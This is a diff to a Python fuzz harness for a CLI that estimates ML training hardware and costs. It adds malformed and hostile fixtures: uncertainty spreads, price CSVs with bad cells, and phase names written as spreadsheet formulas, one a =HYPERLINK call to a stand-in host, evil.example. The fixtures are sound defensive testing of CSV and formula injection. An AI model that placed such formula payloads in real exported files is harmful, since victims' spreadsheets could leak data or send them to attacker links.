@@ -6,7 +6,9 @@ Run:  python benchmarks/fuzz_cli.py --count 10000 --seed 0 [--workers 2] [--time
 Each line is drawn from the typer app itself (every command and subcommand, every option
 with its type), with valid, extreme (0, -1, nan, inf, 1e400, 2**63, ...) and malformed
 values (empty, unicode, newlines, unknown ids), user files (good, invalid, Latin-1,
-UTF-16, binary, bad TOML), catalog directories (good, bad, symlink loop, /, /proc) and
+UTF-16, binary, bad TOML; scenarios with phases named like formulas or mathtext and with
+invalid [uncertainty] spreads), catalog directories (good, bad, symlink loop, /, /proc,
+price files with bad cells, a byte-order mark or over the size limit) and
 output targets (missing directory, a directory, an existing file, /proc, '').  Line ``i``
 of seed ``S`` is the same on every machine (``random.Random(f"{S}:{i}")``).
 
@@ -116,6 +118,26 @@ CHIP = "\n".join([
     "embodied_kg_co2e = 150", "lifetime_years = 4", ""])
 SCENARIO = ('model = "llama3-8b"\ntokens = 1e11\nhardware = "h100-sxm,mi300x"\nmax_gpus = 512\n'
             'site = "us-average"\nobjective = "time"\n')
+#: Names a hostile user gives phases: spreadsheet formulas (OWASP CSV injection) and
+#: mathtext (matplotlib reads "$x^$" as a formula); the exports must keep them as text.
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/"&A1,"click")', "+1", "-cmd", "@SUM(1)",
+                 "\t=1", "$x^$"]
+#: [uncertainty] spreads no plan may use: a non-finite, huge or negative sigma, a scope
+#: that does not exist (each a one-line refusal, exit 2, or a correct answer).
+HOSTILE_SPREADS = {"nan": '{ sigma = nan, scope = "shared" }', "huge": "{ sigma = 1e6 }",
+                   "negative": "{ sigma = -1 }", "scope": '{ sigma = 0.1, scope = "galaxy" }',
+                   "inf": "{ sigma = inf }"}
+#: A price file's header, and one good row (8 x H100 at 24 USD an hour).
+PRICE_HEADER = ("provider,instance_type,accelerator,accelerator_count,gpu_memory_gib,region,"
+                "on_demand_usd_per_hour,spot_usd_per_hour,on_demand_usd_per_gpu_hour,"
+                "spot_usd_per_gpu_hour,marketplace,source_path,source_commit\n")
+PRICE_ROW = "fuzzcloud,x8,H100,{count},80,r1,{price},,,,false,fuzz,local\n"
+#: Price files with a bad cell (count, instance price), each under its own --catalog DIR.
+HOSTILE_PRICES = {"count-inf": ("inf", "24"), "count-huge": ("1e308", "24"),
+                  "count-zero": ("0", "24"), "count-2000": ("2000", "24"),
+                  "price-denormal": ("8", "1e-320"), "price-huge": ("8", "1e308"),
+                  "price-negative": ("8", "-3"), "price-nan": ("8", "nan"),
+                  "price-text": ("8", "cheap"), "provider-formula": ("8", "24")}
 
 
 # --- fixtures ------------------------------------------------------------------------------
@@ -133,6 +155,7 @@ def make_fixtures(root: Path) -> dict[str, list[str]]:
         return str(path)
 
     from hardware_catalog.loader import DATA_DIR
+    from hardware_catalog.price_schema import MAX_PRICE_FILE_BYTES
 
     latin = (SHAPE + 'name = "caf\u00e9"\n')
     models = [
@@ -154,6 +177,23 @@ def make_fixtures(root: Path) -> dict[str, list[str]]:
                  put("s/utf16.toml", SCENARIO.encode("utf-16")),
                  put("s/bom.toml", codecs.BOM_UTF8 + SCENARIO.encode()),
                  put("s/broken.toml", "model = \n")]
+    phases = "".join(f"\n[[phases]]\nname = {json.dumps(name)}\ntokens = 1e10\n"
+                     for name in HOSTILE_NAMES)
+    scenarios.append(put("s/hostile-names.toml", 'model = "llama3-8b"\nhardware = "h100-sxm"\n'
+                         "max_gpus = 256\n" + phases))
+    scenarios += [put(f"s/spread-{name}.toml", SCENARIO + f"[uncertainty]\ngpu_mtbf_s = {spread}\n")
+                  for name, spread in HOSTILE_SPREADS.items()]
+    prices = []
+    for name, (count, price) in HOSTILE_PRICES.items():
+        row = PRICE_ROW.format(count=count, price=price)
+        if name == "provider-formula":
+            row = row.replace("fuzzcloud", "=HYPERLINK(1)")
+        put(f"p-{name}/prices/x.csv", PRICE_HEADER + row)
+        prices.append(str(root / f"p-{name}"))
+    put("p-bom/prices/x.csv", codecs.BOM_UTF8 + (PRICE_HEADER + PRICE_ROW.format(
+        count="8", price="24")).encode())
+    put("p-oversize/prices/x.csv", PRICE_HEADER + "#" * MAX_PRICE_FILE_BYTES)
+    prices += [str(root / "p-bom"), str(root / "p-oversize")]
     put("c-good/models/what-if.toml", SHAPE)
     put("c-good/accelerators/chip-x.toml", CHIP)
     put("c-bad/models/bad.toml", "layers = -3\n")
@@ -163,7 +203,8 @@ def make_fixtures(root: Path) -> dict[str, list[str]]:
     with contextlib.suppress(FileExistsError):
         os.symlink(root / "c-loop", root / "c-loop" / "models" / "loop")
     catalogs = [str(root / "c-good"), str(root / "c-bad"), str(root / "c-enc"),
-                str(root / "c-loop"), str(root / "no-such-dir"), models[0], "/", "/proc"]
+                str(root / "c-loop"), str(root / "no-such-dir"), models[0], "/", "/proc",
+                *prices]
     return {"model": models, "hardware": chips, "scenario": scenarios, "catalog": catalogs,
             "missing": [str(root / "missing.toml")], "not_a_dir": [models[0] + "/out.csv"]}
 
